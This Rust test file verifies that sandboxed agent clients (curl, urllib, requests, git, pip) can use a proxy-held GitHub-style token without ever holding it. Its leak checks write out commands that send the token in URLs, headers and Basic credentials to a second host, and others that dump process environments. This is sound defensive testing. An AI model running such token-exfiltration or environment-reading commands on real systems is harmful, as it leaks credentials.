#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Proxy-held secrets with the clients agents use, inside container and gVisor sandboxes,
//! through the real egress enforcer (`VethEnforcer`) to real servers on loopback:
//!
//! - `curl -H "Authorization: Bearer $TOKEN"`, Python's `urllib` and `requests` against an
//!   HTTPS echo server;
//! - `git clone https://x-access-token:$TOKEN@host/repo.git` against the real
//!   `git http-backend` (CGI) behind a server that checks the Basic credential;
//! - `pip download --index-url https://__token__:$TOKEN@host/simple/` against a PEP 503 index
//!   (a wheel made here) that requires the token.
//!
//! Each: the server receives the real value; the placeholder sent to another allowed host
//! (in cleartext) is refused with 403 and recorded as a leak attempt; an echoed value comes
//! back masked. And the sandbox never holds the value: not in any process's environment
//! (read inside), not in any file it wrote (the workspace, a host directory, scanned from
//! the host; `/tmp`, `/etc`, `/dev/shm` inside), not in any of its processes' memory (read
//! from the host through `/proc/<pid>/mem`, while a Python process that used the token is
//! alive; for gVisor, its sandbox, gofer and stub processes and the memory file holding the
//! sandboxed processes' memory), not in captured output (not even redacted). Each scan is
//! also shown to find the placeholder where the value would be.

mod common;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use common::{Response, Server};
use sandbox_core::{
    Backend, DynBackend, ExecRequest, ExecResult, Language, MapSecretSource, NetworkPolicy,
    ResolvedSecrets, Sandbox, SandboxSpec, Workspace,
};
use sandbox_egress::VethEnforcer;

const VALUE: &str = "ghp_CLIENTSrealTokenValue0123456789abcdef";
const PROJECT: &str = "agentsbx-probe";

/// The servers of one test: HTTPS on `allowed.test` (the bound host) and a plain HTTP one on
/// `other.test` (allowed by the policy, not bound) that asks for Basic credentials.
struct Servers {
    echo: Server,
    git: Server,
    index: Server,
    other: Server,
    upstream_ca: tokio_rustls::rustls::pki_types::CertificateDer<'static>,
    _dir: tempfile::TempDir,
}

async fn servers() -> Servers {
    let pki = common::TestPki::new(&["allowed.test"]);
    let dir = tempfile::tempdir().unwrap();
    common::git_repo(dir.path());
    let (wheel_name, wheel) = common::wheel(dir.path(), PROJECT, "0.1");
    let tls = Some(pki.acceptor.clone());
    Servers {
        echo: common::serve(tls.clone(), common::echo()).await,
        git: common::serve(
            tls.clone(),
            common::git_http_backend(dir.path().to_path_buf(), "x-access-token", VALUE),
        )
        .await,
        index: common::serve(
            tls,
            common::package_index(PROJECT, wheel_name, wheel, "__token__", VALUE),
        )
        .await,
        other: common::serve(
            None,
            Arc::new(|_: &common::Request| Response::unauthorized()),
        )
        .await,
        upstream_ca: pki.ca,
        _dir: dir,
    }
}

fn spec(workspace: &Path) -> SandboxSpec {
    SandboxSpec::builder(Language::Shell)
        .network(NetworkPolicy::Allow {
            hosts: vec![
                "allowed.test".parse().unwrap(),
                "other.test".parse().unwrap(),
            ],
            cidrs: vec!["127.0.0.1/32".parse().unwrap()],
            ports: vec![],
        })
        // curl sends the token in the query too: granted (headers only by default).
        .secret_via_proxy_in(
            "GH_TOKEN",
            "TOKEN",
            ["allowed.test"],
            "header,query".parse().unwrap(),
        )
        .workspace(Workspace::HostDir {
            path: workspace.to_path_buf(),
            read_only: false,
        })
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .env("PIP_NO_INPUT", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .build()
        .unwrap()
}

/// Why this tier cannot run here, if it cannot (the probe's word).
async fn skip_reason(b: &dyn Backend) -> Option<String> {
    let s = b.probe().await;
    (!s.available).then(|| format!("{} tier unavailable: {} ({:?})", s.tier, s.reason, s.fix))
}

/// The Python program that holds a used token while the host reads its memory: a `requests`
/// call with it, then it waits (`ready` says when).
const HOLD_PY: &str = r#"
import os, sys, time, requests
tok = os.environ["TOKEN"]
r = requests.get(sys.argv[1], headers={"Authorization": "Bearer " + tok}, timeout=60)
body = r.text
print(r.status_code, len(body), flush=True)
open("/workspace/ready", "w").write(str(os.getpid()))
time.sleep(3600)
"#;

async fn check_clients(b: DynBackend, e: VethEnforcer, s: Servers) {
    let tier = b.tier();
    assert!(b.capabilities().proxy_secrets, "{tier}");
    let ws = tempfile::tempdir().unwrap();
    let tag = format!("hold-{}.py", uuid_like());
    std::fs::write(ws.path().join(&tag), HOLD_PY).unwrap();
    let spec = spec(ws.path());
    let secrets = ResolvedSecrets::resolve(
        &spec.secrets,
        &MapSecretSource::new().with("GH_TOKEN", VALUE),
    )
    .unwrap();
    let sb = b.create(&spec, secrets).await.unwrap();
    let mut outputs: Vec<ExecResult> = Vec::new();
    let (echo, git, index, other) = (s.echo.port, s.git.port, s.index.port, s.other.port);

    // The sandbox holds a placeholder of the value's length, never the value.
    let r = run(&*sb, "printf %s \"$TOKEN\"").await;
    let placeholder = r.stdout_str().to_string();
    assert_eq!(placeholder.len(), VALUE.len(), "{tier}: {r:?}");
    assert_ne!(placeholder, VALUE);
    let r = run(
        &*sb,
        "printf '%s\\n' \"$SSL_CERT_FILE\" \"$REQUESTS_CA_BUNDLE\" \"$GIT_SSL_CAINFO\" \"$PIP_CERT\"; \
         cmp /etc/agent-sandbox-ca.crt /etc/ssl/certs/ca-certificates.crt && echo same",
    )
    .await;
    // Both tiers also put the bundle at the root's system bundle path.
    let want = format!("{}same\n", "/etc/agent-sandbox-ca.crt\n".repeat(4));
    assert_eq!(r.stdout_str(), want, "{tier}: {r:?}");
    outputs.push(r);

    // curl: a header and the query string.
    let r = run(
        &*sb,
        &format!(
            "curl -sS -H \"Authorization: Bearer $TOKEN\" \
             \"https://allowed.test:{echo}/curl?token=$TOKEN\""
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} curl: {r:?}");
    echoed(tier, "curl", &r, &placeholder);
    let got = last_to(&s.echo, "/curl");
    assert!(
        got.head.contains(&format!("GET /curl?token={VALUE} ")),
        "{}",
        got.head
    );
    assert_eq!(
        got.header("authorization"),
        Some(&*format!("Bearer {VALUE}"))
    );
    outputs.push(r);

    // Python's urllib.
    let r = run(
        &*sb,
        &format!(
            "python3 -c \"import os, urllib.request as u; \
             q = u.Request('https://allowed.test:{echo}/urllib', \
             headers={{'Authorization': 'Bearer ' + os.environ['TOKEN']}}); \
             print(u.urlopen(q, timeout=60).read().decode())\""
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} urllib: {r:?}");
    echoed(tier, "urllib", &r, &placeholder);
    let got = last_to(&s.echo, "/urllib");
    assert_eq!(
        got.header("authorization"),
        Some(&*format!("Bearer {VALUE}"))
    );
    outputs.push(r);

    // Python's requests (REQUESTS_CA_BUNDLE), in a process that then stays alive holding
    // what it used, for the memory scan below.
    let r = run(
        &*sb,
        &format!(
            "python3 -c 'import requests; print(requests.__version__)' && \
             (nohup python3 /workspace/{tag} https://allowed.test:{echo}/requests \
             </dev/null >/workspace/hold.out 2>&1 &) ; echo started"
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} requests: {r:?}");
    outputs.push(r);
    let ready = ws.path().join("ready");
    let mut waited = 0;
    while !ready.exists() {
        assert!(
            waited < 1200,
            "{tier}: the requests process never got ready: {}",
            std::fs::read_to_string(ws.path().join("hold.out")).unwrap_or_default()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
        waited += 1;
    }
    let hold_out = std::fs::read_to_string(ws.path().join("hold.out")).unwrap();
    assert!(hold_out.starts_with("200 "), "{tier} requests: {hold_out}");
    let got = last_to(&s.echo, "/requests");
    assert_eq!(
        got.header("authorization"),
        Some(&*format!("Bearer {VALUE}"))
    );
    // The echo, masked, as the process printed it to a file of the workspace.
    let r = run(
        &*sb,
        &format!(
            "python3 -c \"import os, requests; \
             r = requests.get('https://allowed.test:{echo}/requests-echo', \
             headers={{'Authorization': 'Bearer ' + os.environ['TOKEN']}}, timeout=60); \
             print(r.status_code); print(r.text)\""
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} requests: {r:?}");
    echoed(tier, "requests", &r, &placeholder);
    outputs.push(r);

    // git clone over HTTPS with the token as the URL's password (Basic credentials after
    // the server's 401); the server echoes it in a header, which the trace shows.
    let r = run(
        &*sb,
        &format!(
            "GIT_TRACE_CURL=/workspace/git-trace.log GIT_TRACE_CURL_NO_DATA=1 git clone -q \
             \"https://x-access-token:$TOKEN@allowed.test:{git}/repo.git\" /workspace/repo \
             && cat /workspace/repo/README && grep -i '^.*x-echo-token' /workspace/git-trace.log | head -n 1"
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} git: {r:?}");
    assert!(
        r.stdout_str().contains("served by git http-backend"),
        "{tier} git: {r:?}"
    );
    echoed(tier, "git", &r, &placeholder);
    let reqs = s.git.requests();
    assert!(
        reqs.iter().any(
            |q| q.basic_auth() == Some(("x-access-token".into(), VALUE.into()))
                && q.target.contains("git-upload-pack")
        ),
        "{tier} git: the server got no clone with the value: {reqs:?}"
    );
    outputs.push(r);

    // pip download from an index that requires the token; the project page echoes it in
    // the wheel's link, which pip logs and then asks for.
    let r = run(
        &*sb,
        &format!(
            "cd /workspace && python3 -m pip download -v --no-deps -d /workspace/dl \
             --index-url \"https://__token__:$TOKEN@allowed.test:{index}/simple/\" {PROJECT} \
             && ls /workspace/dl"
        ),
    )
    .await;
    assert_eq!(r.exit_code, Some(0), "{tier} pip: {r:?}");
    assert!(
        r.stdout_str()
            .contains("agentsbx_probe-0.1-py3-none-any.whl"),
        "{tier} pip: {r:?}"
    );
    echoed(tier, "pip", &r, &placeholder);
    let reqs = s.index.requests();
    let file = reqs
        .iter()
        .find(|q| q.path().starts_with("/files/"))
        .unwrap_or_else(|| panic!("{tier} pip: no wheel download: {reqs:?}"));
    assert_eq!(
        file.basic_auth(),
        Some(("__token__".into(), VALUE.into())),
        "{tier} pip"
    );
    assert_eq!(file.query(), format!("echo={VALUE}"), "{tier} pip");
    outputs.push(r);

    // The placeholder to another allowed host, with each client that puts it in a header
    // or the request target: refused (403), recorded as a leak attempt. (git and pip send
    // it inside Basic credentials: `basic_credentials_to_another_host_are_refused`.)
    let leaks = [
        (
            "curl",
            format!("curl -sS -i \"http://other.test:{other}/curl?t=$TOKEN\""),
        ),
        (
            "urllib",
            format!(
                "python3 -c \"import os, urllib.request as u, urllib.error as e\n\
                 try: u.urlopen('http://other.test:{other}/urllib?t=' + os.environ['TOKEN'], timeout=60)\n\
                 except e.HTTPError as x: print('HTTP', x.code)\""
            ),
        ),
        (
            "requests",
            format!(
                "python3 -c \"import os, requests; print('HTTP', requests.get('http://other.test:{other}/requests', \
                 headers={{'X-Token': os.environ['TOKEN']}}, timeout=60).status_code)\""
            ),
        ),
    ];
    outputs.extend(refused(&*sb, &s, &placeholder, &leaks).await);

    // Nowhere inside: the environment of every process, files under /workspace, /tmp,
    // /etc and /dev/shm (the placeholder is in the environments: the check can see). The
    // pattern matches the value without holding it: the value itself must never enter the
    // sandbox, not even in a test's command line.
    let pattern = format!(
        "{}[{}]",
        &VALUE[..VALUE.len() - 1],
        &VALUE[VALUE.len() - 1..]
    );
    let r = run(
        &*sb,
        &format!(
            "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -- '{pattern}'; \
             cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -- \"$TOKEN\"; \
             grep -rs -l -- '{pattern}' /workspace /tmp /etc /dev/shm; echo done"
        ),
    )
    .await;
    let stdout = r.stdout_str().to_string();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{tier}: {r:?}");
    assert_eq!(lines[0], "0", "{tier}: the value in an environment: {r:?}");
    assert!(lines[1].parse::<u32>().unwrap() >= 2, "{tier}: {r:?}");
    assert_eq!(
        lines[2], "done",
        "{tier}: files inside hold the value: {r:?}"
    );
    outputs.push(r);

    // The workspace from the host: what git, pip, the trace and the Python process wrote.
    let with_value = common::files_holding(ws.path(), VALUE.as_bytes());
    assert!(with_value.is_empty(), "{tier}: {with_value:?}");
    let with_placeholder = common::files_holding(ws.path(), placeholder.as_bytes());
    assert!(
        with_placeholder
            .iter()
            .any(|p| p.ends_with("repo/.git/config")),
        "{tier}: {with_placeholder:?}"
    );

    // The sandbox's processes' memory, from the host, while the Python process that used
    // the token (and read its echo) is alive.
    let procs = common::sandbox_processes(&[sb.id(), &tag]);
    assert!(!procs.is_empty(), "{tier}: no host process of the sandbox");
    let scan = common::scan_memory(&procs, &[VALUE.as_bytes(), placeholder.as_bytes()]);
    eprintln!(
        "{tier}: scanned {} MiB of {} processes {procs:?}",
        scan.bytes >> 20,
        procs.len()
    );
    assert!(
        scan.hits[0].is_empty(),
        "{tier}: the value is in the sandbox's memory: {:?}",
        scan.hits[0]
    );
    assert!(
        !scan.hits[1].is_empty(),
        "{tier}: the scan did not even find the placeholder (it cannot see the sandbox)"
    );

    // Captured output never had it (not even redacted: it was never there).
    for r in &outputs {
        for out in [r.stdout_str(), r.stderr_str()] {
            assert!(
                !out.contains(VALUE) && !out.contains("[REDACTED"),
                "{tier}: {r:?}"
            );
        }
    }
    sb.destroy().await.unwrap();
    drop(e);
}

/// Runs each `(client, code)`, which sends the placeholder to `other.test`: each is refused
/// with 403 and recorded as a leak attempt, and the other host never gets the placeholder
/// (nor the value).
async fn refused(
    sb: &dyn Sandbox,
    s: &Servers,
    placeholder: &str,
    leaks: &[(&str, String)],
) -> Vec<ExecResult> {
    let before = leak_events(sb).await;
    let mut outputs = Vec::new();
    for (client, code) in leaks {
        let r = run(sb, code).await;
        // pip reports a refused index page only as "no matching distribution"; that it was
        // refused (and not sent) is checked below, by the leak events and what the other
        // host got.
        assert!(
            r.stdout_str().contains("403") || *client == "pip",
            "{client}: the leak was not refused with 403: {}\n{}\nthe other host got: {:#?}",
            r.stdout_str(),
            r.stderr_str(),
            s.other
                .requests()
                .iter()
                .map(|q| &q.head)
                .collect::<Vec<_>>(),
        );
        outputs.push(r);
    }
    for q in s.other.requests() {
        let auth = q.basic_auth().map(|(u, p)| format!("{u}:{p}"));
        assert!(
            !q.head.contains(placeholder)
                && !q.head.contains(VALUE)
                && !auth.is_some_and(|a| a.contains(placeholder) || a.contains(VALUE)),
            "the other host got the credential: {}",
            q.head
        );
    }
    let after = leak_events(sb).await;
    assert!(
        after >= before + leaks.len(),
        "{} leak attempts recorded for {} refusals",
        after - before,
        leaks.len()
    );
    let events = sb.network_events().await.unwrap();
    assert!(!format!("{events:?}").contains(VALUE));
    outputs
}

async fn run(sb: &dyn Sandbox, code: &str) -> ExecResult {
    let mut r = ExecRequest::code(code);
    r.timeout = Some(Duration::from_secs(120));
    sb.exec(r).await.unwrap()
}

/// The client's output shows the echo with the placeholder, never the value.
fn echoed(tier: sandbox_core::Tier, client: &str, r: &ExecResult, placeholder: &str) {
    let out = format!("{}{}", r.stdout_str(), r.stderr_str());
    assert!(
        out.contains(placeholder),
        "{tier} {client}: no masked echo: {r:?}"
    );
    assert!(!out.contains(VALUE), "{tier} {client}: {r:?}");
}

fn last_to(s: &Server, path: &str) -> common::Request {
    s.requests()
        .into_iter()
        .rev()
        .find(|q| q.path() == path)
        .unwrap_or_else(|| panic!("no request to {path}"))
}

async fn leak_events(sb: &dyn Sandbox) -> usize {
    sb.network_events()
        .await
        .unwrap()
        .iter()
        .filter(|e| !e.allowed && e.rule.contains("leak attempt"))
        .count()
}

fn uuid_like() -> String {
    let mut b = [0u8; 8];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut b))
        .unwrap();
    hex::encode(b)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn container_clients_use_a_token_they_never_hold() {
    let s = servers().await;
    let Some(e) = common::enforcer(s.upstream_ca.clone(), &["allowed.test", "other.test"]) else {
        return;
    };
    let b: DynBackend = Arc::new(
        backend_container::ContainerBackend::builder()
            .egress(Arc::new(e.clone()))
            .build()
            .unwrap(),
    );
    if let Some(why) = skip_reason(&*b).await {
        eprintln!("SKIP: {why}");
        return;
    }
    check_clients(b, e, s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gvisor_clients_use_a_token_they_never_hold() {
    let s = servers().await;
    let Some(e) = common::enforcer(s.upstream_ca.clone(), &["allowed.test", "other.test"]) else {
        return;
    };
    let b: DynBackend = Arc::new(
        backend_gvisor::GvisorBackend::builder()
            .egress(Arc::new(e.clone()))
            .build()
            .unwrap(),
    );
    if let Some(why) = skip_reason(&*b).await {
        eprintln!("SKIP: {why}");
        return;
    }
    check_clients(b, e, s).await;
}

/// git and pip send the token inside Basic credentials (`https://user:$TOKEN@host/`, after
/// the server's 401 or up front): to another allowed host over cleartext HTTP, the
/// placeholder is refused there too (the proxy's leak check decodes Basic credentials, as
/// the substitution for bound hosts does).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn basic_credentials_to_another_host_are_refused() {
    let s = servers().await;
    let Some(e) = common::enforcer(s.upstream_ca.clone(), &["allowed.test", "other.test"]) else {
        return;
    };
    let b: DynBackend = Arc::new(
        backend_container::ContainerBackend::builder()
            .egress(Arc::new(e.clone()))
            .build()
            .unwrap(),
    );
    if let Some(why) = skip_reason(&*b).await {
        eprintln!("SKIP: {why}");
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let spec = spec(ws.path());
    let secrets = ResolvedSecrets::resolve(
        &spec.secrets,
        &MapSecretSource::new().with("GH_TOKEN", VALUE),
    )
    .unwrap();
    let sb = b.create(&spec, secrets).await.unwrap();
    let placeholder = run(&*sb, "printf %s \"$TOKEN\"")
        .await
        .stdout_str()
        .to_string();
    let other = s.other.port;
    let leaks = [
        (
            "git",
            format!(
                "git ls-remote \"http://x-access-token:$TOKEN@other.test:{other}/repo.git\" 2>&1"
            ),
        ),
        (
            "pip",
            format!(
                "python3 -m pip download --no-deps -d /tmp/dl --trusted-host other.test:{other} \
                 --index-url \"http://__token__:$TOKEN@other.test:{other}/simple/\" {PROJECT} 2>&1"
            ),
        ),
    ];
    refused(&*sb, &s, &placeholder, &leaks).await;
    sb.destroy().await.unwrap();
}
